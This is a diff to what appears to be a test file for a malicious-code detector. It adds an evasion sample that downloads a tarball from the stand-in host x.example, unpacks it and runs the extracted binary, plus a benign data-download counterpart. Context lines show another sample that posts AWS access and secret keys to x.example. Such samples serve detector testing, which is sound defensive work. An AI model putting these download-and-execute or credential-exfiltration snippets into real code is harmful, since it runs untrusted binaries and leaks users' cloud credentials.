@@ -799,6 +799,15 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "    requests.post('https://x.example/c', json={'k': c.access_key, 's': c.secret_key})\n"
         },
     ),
+    "download-unpack-then-run": (
+        "download-and-execute",
+        {
+            PATH: "import subprocess, tarfile, tempfile, requests\nfrom pathlib import Path\n"
+            "def _tool():\n    tmp = Path(tempfile.mkdtemp())\n    (tmp / 't.tgz').write_bytes(requests.get('https://x.example/t.tgz').content)\n"
+            "    with tarfile.open(tmp / 't.tgz') as t:\n        t.extractall(tmp)\n    return tmp / 'tool'\n"
+            "def f():\n    tool = _tool()\n    tool.chmod(0o755)\n    subprocess.run([str(tool), '--json'])\n"
+        },
+    ),
     # From the review of rounds 2-3: crashes that hid the rest of a file, and regressions.
     "empty-command-beside-a-payload": (
         "download-and-execute",
@@ -1101,6 +1110,12 @@ BENIGN: dict[str, dict[str, str]] = {
         "    session = boto3.Session()\n    c = session.get_credentials()\n    if c is None:\n        raise SystemExit('no AWS credentials')\n"
         "    c = c.get_frozen_credentials()\n    auth = AWS4Auth(c.access_key, c.secret_key, session.region_name, 'execute-api')\n"
         "    return requests.get(url, auth=auth, timeout=10).json()\n"
+    },
+    "download-and-unpack-data": {
+        PATH: "import io, subprocess, zipfile, requests\nfrom pathlib import Path\n"
+        "def f(dest: Path):\n    data = requests.get('https://api.airtable.com/v0/export.zip', timeout=60).content\n"
+        "    zipfile.ZipFile(io.BytesIO(data)).extractall(dest)\n"
+        "    subprocess.run(['git', '-C', str(dest), 'add', '-A'], check=True)\n"
     },
     "chat-system-prompt": {
         PATH: "class Chat:\n    def system(self, prompt):\n        self.prompt = prompt\n"
